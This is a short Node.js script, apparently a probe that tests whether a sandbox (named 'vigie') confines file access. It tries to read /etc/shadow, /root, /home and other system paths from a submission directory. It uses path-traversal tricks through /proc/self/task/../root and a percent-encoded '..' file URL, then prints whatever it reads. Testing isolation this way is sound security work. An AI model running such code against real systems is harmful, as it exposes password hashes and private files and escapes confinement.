import { existsSync, lstatSync, readdirSync, readFileSync } from "node:fs";
import { dirname } from "node:path";
const places = readFileSync("/submission/places.txt", "utf8").split("\n");
const read = [];
for (const place of [...places, "/etc/shadow", "/var/lib/vigie", "/home", "/root", "/sys/kernel"]) {
  for (const look of [
    () => existsSync(place) && place,
    () => lstatSync(place).size,
    () => readFileSync(place, "utf8"),
    () =>
      readdirSync(dirname(place))
        .filter((name) => name.includes("vigie"))
        .join(),
    () => readFileSync(Buffer.from(`/proc/self/task/../root${place}`), "utf8"),
    () => readFileSync(new URL(`file:///submission/%2e%2e${place}`), "utf8"),
  ]) {
    try {
      const seen = look();
      if (seen) read.push(`${place}: ${seen}`);
    } catch {}
  }
}
console.log("read", JSON.stringify(read));
